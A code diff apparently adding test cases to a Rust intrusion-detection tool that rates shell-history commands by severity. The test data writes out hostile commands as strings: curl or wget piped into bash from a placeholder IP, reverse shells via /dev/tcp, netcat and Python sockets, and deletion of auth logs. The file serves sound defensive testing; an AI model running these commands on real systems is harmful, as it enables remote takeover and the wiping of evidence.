@@ -20,6 +20,11 @@ fn commands_of_intruders_are_told() {
     for (command, expected) in [
         ("curl -fsSL http://192.0.2.9/i.sh | bash", "high ran.download-and-run"),
         ("wget http://192.0.2.9/m -O /opt/m && chmod +x /opt/m", "high ran.download-and-run"),
+        ("curl -fsSL https://deb.example.org/setup_20.x | bash -", "medium ran.download-and-run"),
+        ("curl -k https://192.0.2.9/x | bash", "high ran.download-and-run"),
+        ("rm /var/log/apache2/access.log.14.gz", "low hidden.logs-wiped"),
+        ("rm /var/log/apache2/access.log.14.gz /var/log/auth.log", "high hidden.logs-wiped"),
+        ("touch -d yesterday x", "low hidden.times-set"),
         ("bash -i >& /dev/tcp/192.0.2.9/4444 0>&1", "high ran.reverse-shell"),
         ("nc 192.0.2.9 4444 -e /bin/sh", "high ran.reverse-shell"),
         ("python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)'", "high ran.reverse-shell"),
@@ -56,6 +61,8 @@ fn commands_of_intruders_are_told() {
 #[test]
 fn commands_of_everybody_are_not() {
     for command in [
+        "nmap -p 443 localhost",
+        "nmap -sV 127.0.0.1",
         "ls -la /tmp",
         "cd /var/log",
         "tail -f /var/log/syslog",
@@ -83,4 +90,23 @@ fn commands_of_everybody_are_not() {
     ] {
         assert_eq!(told(command), [""; 0], "{command}");
     }
+}
+
+#[test]
+fn the_gravest_of_several_commands_is_named() {
+    let event = |second: i64, command: &str| Told {
+        path: "/root/.bash_history",
+        kind: "shell.command",
+        time: 1_700_000_000 + second,
+        user: "root".to_owned(),
+        message: command.to_owned(),
+        ..Told::default()
+    };
+    let events = [event(0, "curl -s https://deb.example.org/x | bash"), event(1, "curl -s http://192.0.2.9/x | bash")];
+    let found = found_in(&view(&[]), &events, find);
+    assert_eq!(
+        titles(&found),
+        ["high ran.download-and-run: root downloaded something and ran it: curl -s http://192.0.2.9/x | bash"]
+    );
+    assert_eq!(found.findings[0].evidence.len(), 2);
 }
